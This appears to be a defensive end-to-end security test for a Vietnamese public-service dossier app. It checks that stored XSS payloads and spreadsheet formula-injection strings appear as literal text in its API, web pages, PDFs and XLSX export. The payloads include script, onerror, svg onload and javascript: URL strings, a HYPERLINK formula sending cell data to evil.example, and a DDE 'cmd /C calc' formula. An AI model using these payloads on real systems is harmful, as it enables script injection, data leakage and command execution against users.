/**
 * Stored script in what people type — applicant names and addresses, notes, reasons, requested items,
 * uploaded file names — and formula injection in the dossier book, against a real server (startServer,
 * 127.0.0.1, PGlite or a fresh database on DATABASE_URL's server) with the built web app:
 *
 * (a) the JSON API gives the text back as data (application/json, byte for byte);
 * (b) in Debian's Chromium the desk dossier page, the desk queue, the citizen's dossier page and list, and the
 *     public lookup show the text literally: no dialog, no element or attribute from the payloads (no `on*`
 *     attribute, no iframe, no inline script, no javascript: URL), no CSP violation report;
 * (c) the PDFs (forms 01, 02, 06 and the dossier book) carry the literal text (pdftotext) and no JavaScript,
 *     OpenAction, Launch or foreign URI action in their bytes;
 * (d) the XLSX dossier book keeps text starting with = + - @ as string cells, never formulas.
 *
 * Run: node --import tsx --test e2e/security/xss.security.ts
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import ExcelJS from 'exceljs';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { sampleFile } from '../../packages/server/src/testing';
import { launchBrowser, openPage } from '../support/browser';
import type { RunningServer } from '../support/server';
import { apiClient, DEMO_PASSWORD, ensureWebBuilt, startSecurityServer } from './real-server';

const SCRIPT = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(2)>';
const SVG = '<svg/onload=alert(3)>';
const JS_URL = 'javascript:alert(4)';
const IFRAME = '<iframe src="javascript:alert(5)"></iframe>';
const TEMPLATE = "{{constructor.constructor('alert(6)')()}} $t(portal.lookup.title)";
const ATTRIBUTE = "' onmouseover='alert(7)' x='";
const ENTITIES = '&lt;b&gt;bold&lt;/b&gt; &amp;';

/** A counter applicant whose name starts with a payload without spaces (the lookup shows the first word whole). */
const counterName = `${SVG} Nguyễn ${IMG} ${SCRIPT}`;
const counterAddress = `${IMG} ${JS_URL} ${IFRAME} ${ENTITIES}`;
const onlineAddress = `${SCRIPT} ${ATTRIBUTE} ${TEMPLATE}`;
const forwardNote = `${SCRIPT} ${IMG} ${JS_URL}`;
const supplementItems = [SCRIPT, IMG, `${IFRAME} ${TEMPLATE}`];
const supplementReason = `${SVG} ${ATTRIBUTE} ${ENTITIES}`;
/** Upload names (the stored name is cleaned: no folder parts, <>:"|?* become _). */
const uploadNames = [`${IMG}.pdf`, `${JS_URL}.pdf`, `${SCRIPT}.pdf`];
/** Applicant names and addresses that a spreadsheet would read as formulas. */
const formulas = [
  { fullName: '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', address: "=cmd|' /C calc'!A0" },
  { fullName: '+1+1 Trần', address: '+84 Ấp 2' },
  { fullName: '-2+3 Lê', address: '-1+1 Ấp 3' },
  { fullName: '@SUM(1,1) Võ', address: '@SUM(A1:A2) Ấp 4' },
];

let server: RunningServer;
let browser: Browser;
let work = '';
let api: ReturnType<typeof apiClient>;
const contexts: BrowserContext[] = [];
const tally = { jsonChecks: 0, pages: 0, pdfs: 0, formulaCells: 0, literalTexts: 0 };

interface Dossier {
  id: string;
  code: string;
  version: number;
  status: string;
}

const cookies: Record<string, string> = {};
let counter: Dossier;
let online: Dossier;
let storedFileNames: string[] = [];

async function act(who: string, d: Dossier, body: Record<string, unknown>): Promise<Dossier> {
  const res = await api.call('POST', `/api/v1/dossiers/${d.id}/actions`, {
    cookie: cookies[who],
    body: { version: d.version, ...body },
  });
  assert.equal(res.status, 200, `${who} ${body.action}: ${res.text}`);
  return res.json;
}

before(
  async () => {
    await ensureWebBuilt();
    server = await startSecurityServer();
    api = apiClient(server.baseUrl);
    browser = await launchBrowser();
    work = await mkdtemp(join(tmpdir(), 'congso-xss-'));
    for (const who of ['motcua.tanninh', 'truongphong.tanninh', 'chuyenvien.tanninh', '072090001234'])
      cookies[who] = await api.login(who);
    const clerk = cookies['motcua.tanninh'] as string;
    const citizen = cookies['072090001234'] as string;

    // At the counter: the clerk types the applicant's name and address.
    const filed = await api.call('POST', '/api/v1/desk/dossiers', {
      cookie: clerk,
      body: {
        procedureCode: '1.001193',
        applicant: {
          fullName: counterName,
          nationalId: '072085009876',
          phone: '0988 111 222',
          address: counterAddress,
        },
      },
    });
    assert.equal(filed.status, 201, filed.text);
    counter = filed.json;
    const tanNinh = (await api.call('GET', '/api/v1/auth/me', { cookie: clerk })).json.user.agency.id as string;
    counter = await act('motcua.tanninh', counter, { action: 'forward', agencyId: tanNinh, note: forwardNote });

    // Online: the citizen types the address and names the files; the specialist asks for a supplement.
    const procedure = (await api.call('GET', '/api/v1/procedures/1.001193')).json.procedure as {
      requiredDocuments: { name: string; mandatory: boolean }[];
    };
    const documents: { index: number; name: string; fileIds: string[] }[] = [];
    let n = 0;
    for (const [index, d] of procedure.requiredDocuments.entries()) {
      if (!d.mandatory) continue;
      const name = uploadNames[n++ % uploadNames.length] as string;
      const up = await api.upload(citizen, name, sampleFile('sample.pdf'));
      assert.equal(up.status, 201, up.text);
      storedFileNames.push(up.json.name);
      documents.push({ index, name: d.name, fileIds: [up.json.id] });
    }
    while (n < uploadNames.length) {
      // Any name left over is still uploaded (it is kept by the uploader) so that its cleaning is checked.
      const up = await api.upload(citizen, uploadNames[n++] as string, sampleFile('sample.pdf'));
      assert.equal(up.status, 201, up.text);
    }
    storedFileNames = [...new Set(storedFileNames)];
    const submitted = await api.call('POST', '/api/v1/dossiers', {
      cookie: citizen,
      body: {
        procedureCode: '1.001193',
        receivingAgencyId: tanNinh,
        applicant: { phone: '0912 345 678', address: onlineAddress },
        documents,
      },
    });
    assert.equal(submitted.status, 201, submitted.text);
    online = submitted.json;
    online = await act('motcua.tanninh', online, { action: 'receive' });
    online = await act('motcua.tanninh', online, { action: 'forward', agencyId: tanNinh, note: forwardNote });
    const specialist = (await api.call('GET', '/api/v1/auth/me', { cookie: cookies['chuyenvien.tanninh'] })).json.user
      .id as string;
    online = await act('truongphong.tanninh', online, { action: 'assign', assigneeId: specialist });
    online = await act('chuyenvien.tanninh', online, {
      action: 'request_supplement',
      items: supplementItems,
      reason: supplementReason,
    });

    // Names and addresses a spreadsheet would take for formulas.
    for (const [i, f] of formulas.entries()) {
      const res = await api.call('POST', '/api/v1/desk/dossiers', {
        cookie: clerk,
        body: {
          procedureCode: '1.001193',
          applicant: { ...f, nationalId: '072085009876', phone: `0988 111 30${i}`, email: null },
        },
      });
      assert.equal(res.status, 201, res.text);
    }
  },
  { timeout: 300_000 },
);

after(async () => {
  for (const context of contexts) await context.close().catch(() => {});
  await browser?.close().catch(() => {});
  await server?.stop();
  if (work) await rm(work, { recursive: true, force: true });
  console.log(
    `xss: ${tally.jsonChecks} JSON fields returned as data, ${tally.pages} pages in Chromium with ` +
      `${tally.literalTexts} texts shown literally, ${tally.pdfs} PDFs, ${tally.formulaCells} formula-like cells kept as text`,
  );
});

describe('stored script is data, everywhere it is shown', () => {
  test('(a) the JSON API returns it as data, byte for byte, as application/json', async () => {
    const clerk = cookies['motcua.tanninh'];
    /** A field as the API returns it, against what was typed. */
    const same = (actual: unknown, expected: unknown, label: string) => {
      assert.deepEqual(actual, expected, label);
      tally.jsonChecks++;
    };
    const res = await api.call('GET', `/api/v1/dossiers/${counter.id}`, { cookie: clerk });
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^application\/json; charset=utf-8$/);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    same(res.json.applicantName, counterName, 'applicantName');
    same(res.json.applicant.fullName, counterName, 'applicant.fullName');
    same(res.json.applicant.address, counterAddress, 'applicant.address');
    same(res.json.events.at(-1).data.note, forwardNote, 'a note');
    const mine = await api.call('GET', `/api/v1/dossiers/${online.id}`, { cookie: cookies['072090001234'] });
    assert.match(mine.headers.get('content-type') ?? '', /^application\/json/);
    same(mine.json.applicant.address, onlineAddress, 'the online address');
    same(mine.json.state.pending.items, supplementItems, 'requested items');
    same(mine.json.state.pending.reason, supplementReason, 'the reason');
    const names = mine.json.files.map((f: { name: string }) => f.name) as string[];
    same([...new Set(names)].sort(), [...storedFileNames].sort(), 'file names');
    for (const name of names) assert.doesNotMatch(name, /[<>"/\\:]/, `the stored file name ${name}`);
    // The public lookup: the masked name keeps the first word as it was typed.
    const lookup = await api.call('GET', `/api/v1/lookup?code=${encodeURIComponent(counter.code)}&phone=1222`);
    assert.equal(lookup.status, 200, lookup.text);
    assert.match(lookup.headers.get('content-type') ?? '', /^application\/json/);
    assert.ok((lookup.json.applicant as string).startsWith(`${SVG} N.`), lookup.json.applicant);
    // Errors that echo the request stay JSON.
    const echoed = await api.call('GET', `/api/v1/${encodeURIComponent(SCRIPT)}`);
    assert.equal(echoed.status, 404);
    assert.match(echoed.headers.get('content-type') ?? '', /^application\/json/);
    const page = await api.call('GET', `/thu-tuc/${encodeURIComponent(SCRIPT)}`);
    assert.match(page.headers.get('content-type') ?? '', /^text\/html/);
    assert.ok(!page.text.includes('<script>alert'), 'the page does not echo the path');
  });

  test('(b) in Chromium: no dialog, no injected element, the text shown literally', { timeout: 240_000 }, async () => {
    const dialogs: string[] = [];
    const open = async () => {
      const opened = await openPage(browser, server.baseUrl, { width: 1366, height: 900 });
      contexts.push(opened.context);
      const { page } = opened;
      page.on('dialog', (dialog) => {
        dialogs.push(`${dialog.type()}: ${dialog.message()}`);
        void dialog.dismiss();
      });
      await page.addInitScript(() => {
        const w = window as unknown as { __violations: string[] };
        w.__violations = [];
        document.addEventListener('securitypolicyviolation', (e) =>
          w.__violations.push(
            `${e.violatedDirective} ${e.blockedURI} ${e.sample} at ${e.sourceFile}:${e.lineNumber}:${e.columnNumber}`,
          ),
        );
      });
      return opened;
    };
    const login = async (page: Page, username: string, next: string) => {
      await page.goto(`/login?next=${encodeURIComponent(next)}`);
      await page.getByTestId('login-username').fill(username);
      await page.getByTestId('login-password').fill(DEMO_PASSWORD);
      await page.getByTestId('login-submit').click();
      await page.waitForURL((url) => url.pathname === next);
    };
    /** Whatever a payload could have become in the DOM. */
    const injected = (page: Page) =>
      page.evaluate(() => {
        const found: string[] = [];
        for (const el of Array.from(document.querySelectorAll('*'))) {
          for (const attribute of Array.from(el.attributes)) {
            if (/^on/i.test(attribute.name)) found.push(`${el.tagName} ${attribute.name}`);
            if (
              /^\s*javascript:/i.test(attribute.value) &&
              /^(href|src|action|formaction|xlink:href)$/i.test(attribute.name)
            )
              found.push(`${el.tagName} ${attribute.name}=${attribute.value}`);
          }
          if (/^(iframe|object|embed|frame)$/i.test(el.tagName)) found.push(el.tagName);
          if (el.tagName === 'SCRIPT' && !(el as HTMLScriptElement).src) found.push('inline script');
          if (el.tagName === 'IMG' && el.getAttribute('src') === 'x') found.push('img src=x');
        }
        return found;
      });
    const check = async (page: Page, label: string, texts: string[], problems: string[]) => {
      // Let any injected handler have its chance.
      await page.mouse.move(200, 300);
      await page.waitForTimeout(300);
      assert.deepEqual(await injected(page), [], `${label}: injected DOM`);
      const body = (await page.evaluate(() => document.body.innerText)).replace(/\s+/g, ' ');
      for (const text of texts) {
        assert.ok(body.includes(text.replace(/\s+/g, ' ')), `${label}: ${JSON.stringify(text)} is not shown literally`);
        tally.literalTexts++;
      }
      // zod's feature probe (`Function('')`, caught) in the app's own bundle is refused by the CSP too: not ours.
      const violations = (
        await page.evaluate(() => (window as unknown as { __violations: string[] }).__violations)
      ).filter((v) => !(v.startsWith('script-src eval ') && v.includes(` at ${server.baseUrl}/assets/`)));
      assert.deepEqual(violations, [], `${label}: CSP violations (something tried to run)`);
      assert.deepEqual(problems, [], `${label}: page problems`);
      assert.deepEqual(dialogs, [], `${label}: a dialog opened`);
      tally.pages++;
    };

    // The clerk: the queue and both dossiers.
    const desk = await open();
    await login(desk.page, 'motcua.tanninh', '/mot-cua');
    await desk.page.getByTestId('desk-queue').waitFor();
    // The demo's history fills the queue (soonest due first): the dossier is on a page of its status's tab.
    const row = desk.page.locator(`[data-testid="queue-row"][data-code="${counter.code}"]`);
    for (let n = 1; n <= 20 && !(await row.isVisible()); n++) {
      await desk.page.goto(`/mot-cua?status=${counter.status}&page=${n}`);
      await desk.page.getByTestId('desk-queue').waitFor();
      await desk.page.locator('[data-testid="queue-row"]').first().waitFor();
    }
    await row.waitFor();
    await check(desk.page, 'desk queue', [counterName], desk.problems);
    await desk.page.goto(`/mot-cua/ho-so/${counter.id}`);
    await desk.page.getByTestId('dossier-page').waitFor();
    await desk.page.getByTestId('history').waitFor();
    await check(desk.page, 'desk dossier (counter)', [counterName, counterAddress, forwardNote], desk.problems);
    await desk.page.goto(`/mot-cua/ho-so/${online.id}`);
    await desk.page.getByTestId('dossier-page').waitFor();
    await desk.page.getByTestId('history').waitFor();
    await check(
      desk.page,
      'desk dossier (online)',
      [onlineAddress, forwardNote, ...supplementItems, supplementReason, ...storedFileNames],
      desk.problems,
    );

    // The citizen: the list and the dossier with the supplement request.
    const portal = await open();
    await login(portal.page, '072090001234', '/ho-so-cua-toi');
    await portal.page.getByTestId('my-dossiers').waitFor();
    await portal.page.getByTestId('dossier-item').first().waitFor();
    await check(portal.page, 'my dossiers', [], portal.problems);
    await portal.page.goto(`/ho-so-cua-toi/${online.id}`);
    await portal.page.getByTestId('dossier-detail').waitFor();
    await portal.page.getByTestId('supplement-panel').waitFor();
    await check(
      portal.page,
      'portal dossier',
      [...supplementItems, supplementReason, ...storedFileNames],
      portal.problems,
    );

    // Anyone: the public lookup.
    const lookup = await open();
    const expected = (await api.call('GET', `/api/v1/lookup?code=${encodeURIComponent(counter.code)}&phone=1222`)).json
      .applicant as string;
    await lookup.page.goto('/tra-cuu');
    await lookup.page.getByTestId('lookup-code-input').fill(counter.code);
    await lookup.page.getByTestId('lookup-phone-input').fill('1222');
    await lookup.page.getByTestId('lookup-submit').click();
    await lookup.page.getByTestId('lookup-result').waitFor();
    assert.equal(((await lookup.page.getByTestId('lookup-applicant').textContent()) ?? '').trim(), expected);
    await check(lookup.page, 'public lookup', [expected], lookup.problems);
  });

  test('(c) the PDFs carry the literal text and no script or action', async () => {
    const clerk = cookies['motcua.tanninh'];
    const pdfs: [string, string, string[]][] = [
      ['receipt (counter)', `/api/v1/dossiers/${counter.id}/receipt.pdf`, [counterName, counterAddress]],
      ['control slip (counter)', `/api/v1/dossiers/${counter.id}/control-slip.pdf`, [counterName, counterAddress]],
      ['receipt (online)', `/api/v1/dossiers/${online.id}/receipt.pdf`, [onlineAddress]],
      [
        'supplement request (online)',
        `/api/v1/dossiers/${online.id}/supplement-request.pdf`,
        [onlineAddress, ...supplementItems, supplementReason],
      ],
      ['dossier book', '/api/v1/desk/dossier-book.pdf', [counterName, counterAddress, onlineAddress]],
    ];
    const squeeze = (s: string) => s.replace(/\s+/g, '');
    for (const [label, path, texts] of pdfs) {
      const res = await fetch(`${server.baseUrl}${path}`, { headers: { cookie: `congso_session=${clerk}` } });
      assert.equal(res.status, 200, `${label}: ${res.status}`);
      assert.equal(res.headers.get('content-type'), 'application/pdf');
      const bytes = Buffer.from(await res.arrayBuffer());
      const file = join(work, `${label.replace(/\W+/g, '-')}.pdf`);
      await writeFile(file, bytes);
      const text = squeeze(execFileSync('pdftotext', ['-raw', '-enc', 'UTF-8', file, '-'], { encoding: 'utf8' }));
      for (const t of texts) assert.ok(text.includes(squeeze(t)), `${label}: ${JSON.stringify(t)} not found literally`);
      const raw = bytes.toString('latin1');
      assert.doesNotMatch(
        raw,
        /\/(JS|JavaScript|OpenAction|Launch|AA|SubmitForm|ImportData|RichMedia|EmbeddedFile|GoToR)\b/,
        label,
      );
      for (const [, uri] of raw.matchAll(/\/URI\s*\(([^)]*)\)/g)) {
        assert.ok(uri?.startsWith(server.baseUrl), `${label}: a link to ${uri}`);
      }
      tally.pdfs++;
    }
  });

  test('(d) the XLSX dossier book keeps formula-like text as string cells', async () => {
    const res = await fetch(`${server.baseUrl}/api/v1/desk/dossier-book.xlsx`, {
      headers: { cookie: `congso_session=${cookies['motcua.tanninh']}` },
    });
    assert.equal(res.status, 200);
    const bytes = Buffer.from(await res.arrayBuffer());
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    assert.ok(sheet);
    const risky = /^[=+\-@\t\r]/;
    const seen = new Set<string>();
    sheet.eachRow((row) => {
      row.eachCell((cell) => {
        assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `a formula cell at ${cell.address}: ${cell.formula}`);
        assert.equal(cell.formula, undefined, cell.address);
        if (typeof cell.value === 'string' && risky.test(cell.value)) {
          assert.equal(cell.type, ExcelJS.ValueType.String, `${cell.address} ${cell.value}`);
          seen.add(cell.value);
          tally.formulaCells++;
        }
      });
    });
    for (const f of formulas) {
      assert.ok(seen.has(f.fullName), `the name ${f.fullName} is in the book as text`);
      assert.ok(
        [...seen].some((v) => v.startsWith(f.address)),
        `the address ${f.address} is in the book as text`,
      );
    }
    // And in the file itself: no <f> (formula) element in any sheet.
    const file = join(work, 'book.xlsx');
    await writeFile(file, bytes);
    const sheets = execFileSync('unzip', ['-p', file, 'xl/worksheets/*.xml'], { encoding: 'utf8' });
    assert.ok(sheets.includes('<sheetData'), 'the sheet XML was read');
    assert.doesNotMatch(sheets, /<f[\s>]/, 'a formula element in the sheet XML');
  });
});
